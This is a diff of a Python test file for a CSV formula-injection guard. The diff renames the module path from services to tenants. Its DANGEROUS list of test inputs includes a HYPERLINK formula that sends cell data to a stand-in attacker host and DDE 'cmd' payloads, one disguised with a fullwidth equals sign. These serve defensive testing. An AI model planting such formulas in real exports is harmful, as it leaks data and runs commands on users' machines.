@@ -1,4 +1,4 @@
-"""CSV formula-injection guard (services/csv_safe.py), for every export."""
+"""CSV formula-injection guard (tenants/csv_safe.py), for every export."""
 from __future__ import annotations
 
 import csv
@@ -6,7 +6,7 @@ import io
 
 import pytest
 
-from services.csv_safe import safe_cell, to_csv, writer
+from tenants.csv_safe import safe_cell, to_csv, writer
 
 DANGEROUS = ['=1+1', '=HYPERLINK("https://evil.example?"&A1,"click")', "+44 7700 900123", "-2+3", "@SUM(A1:A9)",
              "\t=1+1", "\r=1+1", "\uff1dcmd|' /C calc'!A0", "=cmd|' /C calc'!A0"]
